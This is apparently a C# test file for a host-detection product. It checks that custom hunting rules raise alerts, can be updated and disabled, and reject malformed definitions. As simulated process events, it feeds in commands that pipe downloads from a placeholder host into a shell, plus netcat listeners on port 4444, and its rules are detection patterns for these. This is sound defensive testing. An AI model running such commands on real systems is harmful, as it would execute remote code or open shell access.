using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Osprey.Node.Tests.Support;
using static Osprey.Node.Tests.Detection.DetectionCalls;

namespace Osprey.Node.Tests.Detection;

/// <summary>Hunting queries saved as custom rules through the operator API, raising alerts on events sent as an agent sends them.</summary>
public sealed class CustomRuleTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static async Task<JsonElement> CreateAsync(HttpClient client, object rule)
    {
        using var response = await client.PostAsJsonAsync("/api/v1/rules/custom", rule, Ct);
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync(Ct));
        return await response.Content.ReadFromJsonAsync<JsonElement>(Ct);
    }

    [Fact]
    public async Task SavedQuery_RaisesAlertsOnTheStream_WithItsMetadata()
    {
        await using var node = await TestNode.StartAsync();
        using var client = node.Operator();
        using var agent = await node.EnrollAsync();
        var rule = await CreateAsync(client, new
        {
            title = "Curl piped to a shell",
            query = "eventtype = 'ProcessStart' and commandline contains 'curl' and (commandline ends '| sh' or commandline ends '| bash')",
            importance = "high",
            confidence = "low",
            techniques = new[] { "t1059.004", "T1105" },
            tactics = new[] { "Execution" },
        });
        var id = rule.GetProperty("ruleId").GetString()!;

        await agent.SendAsync(
            [Exec(agent, 1, "curl -fsSL http://x.example/i | SH"), Exec(agent, 2, "curl -o /tmp/a http://x.example/a"), Exec(agent, 3, "wget http://x.example/i | sh")],
            false, Ct);
        var alert = Assert.Single(await WaitForAlertsAsync(client, a => a.Count > 0));

        Assert.Equal("custom", rule.GetProperty("kind").GetString());
        Assert.Equal("compiled", rule.GetProperty("status").GetString());
        Assert.True(rule.GetProperty("enabled").GetBoolean());
        Assert.Equal("local", rule.GetProperty("scope").GetString());
        Assert.Equal("eventtype = \"ProcessStart\" AND commandline CONTAINS \"curl\" AND (commandline ENDS \"| sh\" OR commandline ENDS \"| bash\")", rule.GetProperty("content").GetString());
        Assert.Equal(id, alert.GetProperty("ruleId").GetString());
        Assert.Equal("custom", alert.GetProperty("technology").GetString());
        Assert.Equal("high", alert.GetProperty("importance").GetString());
        Assert.Equal("low", alert.GetProperty("confidence").GetString());
        Assert.Equal(["T1059.004", "T1105"], alert.GetProperty("techniques").EnumerateArray().Select(t => t.GetString()));
        Assert.Contains("curl -fsSL http://x.example/i | SH", alert.GetProperty("summary").GetString(), StringComparison.Ordinal);
        Assert.Equal(1, alert.GetProperty("count").GetInt64());

        // The same query in hunting finds the same one event.
        using var search = await client.PostAsJsonAsync("/api/v1/events/search", new { query = rule.GetProperty("content").GetString() }, Ct);
        var found = (await search.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("events");
        Assert.Equal(1, found.GetArrayLength());
    }

    [Fact]
    public async Task Update_ReplacesTheQuery_Disable_StopsIt_ScopeIsKept()
    {
        await using var node = await TestNode.StartAsync();
        using var client = node.Operator();
        using var agent = await node.EnrollAsync();
        var id = (await CreateAsync(client, new { title = "nc listener", query = "CommandLine CONTAINS 'nc -l'", scope = "global" })).GetProperty("ruleId").GetString();

        using (var update = await client.PutAsJsonAsync($"/api/v1/rules/custom/{id}", new { title = "ncat listener", query = "CommandLine CONTAINS 'ncat -l'" }, Ct))
        {
            Assert.Equal(HttpStatusCode.OK, update.StatusCode);
            var updated = await update.Content.ReadFromJsonAsync<JsonElement>(Ct);
            Assert.Equal("global", updated.GetProperty("scope").GetString());
            Assert.Equal("ncat listener", updated.GetProperty("title").GetString());
        }
        await agent.SendAsync([Exec(agent, 1, "nc -lvp 4444"), Exec(agent, 2, "ncat -l 4444")], false, Ct);
        var alert = Assert.Single(await WaitForAlertsAsync(client, a => a.Count > 0));
        Assert.Equal("ncat listener", alert.GetProperty("ruleTitle").GetString());

        Assert.Equal(HttpStatusCode.OK, (await client.PostAsync($"/api/v1/rules/{id}/disable", null, Ct)).StatusCode);
        await agent.SendAsync([Exec(agent, 3, "ncat -l 5555")], false, Ct);
        var marker = await CreateAsync(client, new { title = "marker", query = "CommandLine = 'marker'" });
        await agent.SendAsync([Exec(agent, 4, "marker")], false, Ct);
        // Batches of one agent are evaluated in order: once the marker's alert is there, the disabled rule's event was evaluated too.
        var alerts = await WaitForAlertsAsync(client, a => a.Any(x => x.GetProperty("ruleId").GetString() == marker.GetProperty("ruleId").GetString()));
        Assert.Equal(1, alerts.Single(a => a.GetProperty("ruleId").GetString() == id).GetProperty("count").GetInt64());

        using var scope = await client.PostAsJsonAsync($"/api/v1/rules/{id}/scope", new { scope = "local" }, Ct);
        Assert.Equal("local", (await scope.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("scope").GetString());
        Assert.Equal(HttpStatusCode.BadRequest, (await client.PostAsJsonAsync($"/api/v1/rules/{id}/scope", new { scope = "everywhere" }, Ct)).StatusCode);
    }

    [Fact]
    public async Task BadDefinitions_AreRefusedWhole_WithEveryReason_AndNothingIsStored()
    {
        await using var node = await TestNode.StartAsync();
        using var admin = node.Operator();

        using var response = await admin.PostAsJsonAsync("/api/v1/rules/custom", new
        {
            title = "",
            query = "CommandLine CONTAINS",
            importance = "urgent",
            techniques = new[] { "execution" },
        }, Ct);
        var problem = await response.Content.ReadFromJsonAsync<JsonElement>(Ct);
        var detail = problem.GetProperty("detail").GetString()!;

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("title:", detail, StringComparison.Ordinal);
        Assert.Contains("query: expected a value after CONTAINS at position 20", detail, StringComparison.Ordinal);
        Assert.Contains("importance: one of low, medium, high, critical", detail, StringComparison.Ordinal);
        Assert.Contains("techniques:", detail, StringComparison.Ordinal);
        using var unknownField = await admin.PostAsJsonAsync("/api/v1/rules/custom", new { title = "x", query = "Nope = 1" }, Ct);
        Assert.Contains("unknown field 'Nope'", await unknownField.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        Assert.Equal(0, (await admin.GetFromJsonAsync<JsonElement>("/api/v1/rules?kind=custom", Ct)).GetArrayLength());
        Assert.Equal(HttpStatusCode.NotFound, (await admin.PutAsJsonAsync("/api/v1/rules/custom/custom-missing", new { title = "x", query = "Pid = 1" }, Ct)).StatusCode);

        using var auditor = node.Operator(await CreateUserAsync(admin, "audrey", "security-auditor"));
        Assert.Equal(HttpStatusCode.Forbidden, (await auditor.PostAsJsonAsync("/api/v1/rules/custom", new { title = "x", query = "Pid = 1" }, Ct)).StatusCode);
        var audit = (await admin.GetFromJsonAsync<JsonElement>("/api/v1/audit?limit=1000", Ct)).EnumerateArray()
            .Select(a => (a.GetProperty("user").GetString(), a.GetProperty("action").GetString(), a.GetProperty("status").GetInt32())).ToList();
        Assert.Contains(("admin", "POST /api/v1/rules/custom", 400), audit);
        Assert.Contains(("audrey", "POST /api/v1/rules/custom", 403), audit);
    }
}
